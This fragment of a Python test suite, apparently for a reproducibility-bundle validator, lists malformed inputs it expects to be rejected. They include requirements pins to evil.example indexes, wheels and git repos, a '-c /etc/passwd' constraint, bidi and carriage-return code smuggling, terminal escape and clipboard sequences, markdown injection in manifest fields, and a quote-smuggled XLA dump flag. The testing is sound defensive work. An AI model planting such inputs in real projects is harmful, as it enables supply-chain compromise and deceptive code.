    return lambda data, members: write_members(replace_member(members, name, text.encode()))


for _label, _text in {
    "index-url": "--index-url https://evil.example/simple\njax==0.4.30\n",
    "extra-index-url": "jax==0.4.30\n--extra-index-url https://evil.example/simple\n",
    "url": "jax @ https://evil.example/jax-0.4.30-py3-none-any.whl\n",
    "vcs": "git+https://evil.example/jax.git#egg=jax\n",
    "unknown-package": "jax==0.4.30\nevil-package==1.0\n",
    "range": "jax>=0.4\n",
    "marker": 'jax==0.4.30; python_version > "3"\n',
    "editable": "-e .\n",
    "constraint-file": "-c /etc/passwd\n",
    "hash-option": "jax==0.4.30 --hash=sha256:00\n",
}.items():
    case(f"requirements-{_label}", "not a pin reprokit writes")(
        _with_member_text("requirements.txt", _text)
    )

for _label, (_member, _text) in {
    "replay-bidi-override": (
        "replay.py",
        "access = 'user' # \u202e } \u2066if access != 'admin'\u2069 \u2066 # begin admins only\n",
    ),
    "replay-carriage-return": ("replay.py", "print('safe')\rimport os; os.system('id')\n"),
    "replay-escape": ("replay.py", "print('hi')\x1b[1A\x1b[2K# looks harmless\n"),
    "replay-line-separator": ("replay.py", "x = 1\u2028import os\n"),
    "readme-escape": ("README.md", "# readme\n\x1b]52;c;ZWNobyBvd25lZA==\x07\n"),
    "requirements-nul": ("requirements.txt", "jax==0.4.30\x00\n"),
    "selfcheck-escape": ("selfcheck.json", '{"ran": true, "reason": "\x1b[2J"}'),
}.items():
    case(f"text-{_label}", "control character")(_with_member_text(_member, _text))


# ------------------------------------------------------------------ manifest numbers (class 9)

for _label, _spelling in {
    "1e999": "1e999",
    "minus-1E400": "-1E400",
    "1e+9999": "1.5e+9999",
}.items():
    case(f"manifest-number-{_label}", "not finite")(
        lambda data, members, _spelling=_spelling: _with_manifest(
            members,
            None,
            json.dumps(_manifest(members)).replace('{"', f'{{"x": {_spelling}, "', 1),
        )
    )


# ------------------------------------------------------------------ output hygiene (class 7)

for _label, (_field, _value) in {
    "layer-type-newline": ("type", "penzai.nn.Linear\nrecorded issue: nothing"),
    "layer-type-backtick": ("type", "penzai.nn.Linear` **pwned** `"),
    "keypath-newline": ("keypath", "MLP\nsha256: 0000"),
    "keypath-backtick": ("keypath", "MLP`](https://evil.example)`"),
    "keypath-table-bar": ("keypath", "MLP | pwned |"),
    "keypath-bidi": ("keypath", "MLP\u202e]0[sreyal"),
}.items():
    case(f"manifest-{_label}", "malformed")(
        _edit_manifest(
            lambda m, _field=_field, _value=_value: m["layer"].__setitem__(_field, _value)
        )
    )


# ------------------------------------------------------------------ XLA flags (class 4)

for _label, _flags, _expect in (
    # One token to a whitespace split, two flags to XLA: dumps into ./dumps.
    ("quote-smuggles-dump", ['--xla_dump_hlo_as_text="true"--xla_dump_to=dumps'], "malformed XLA"),
    ("single-quote", ["--xla_cpu_enable_fast_math='true'"], "malformed XLA"),
    ("backslash", ["--xla_cpu_enable_fast_math=tr\\ue"], "malformed XLA"),
    ("too-many", ["--xla_cpu_enable_fast_math=false"] * 65, "at most"),
    ("too-long", ["--xla_cpu_enable_fast_math=" + "f" * 300], "malformed XLA"),
):
    case(f"manifest-xla-{_label}", _expect)(
        _edit_manifest(
            lambda m, _flags=_flags: m["environment"].__setitem__("xla_flags", list(_flags))
        )
    )
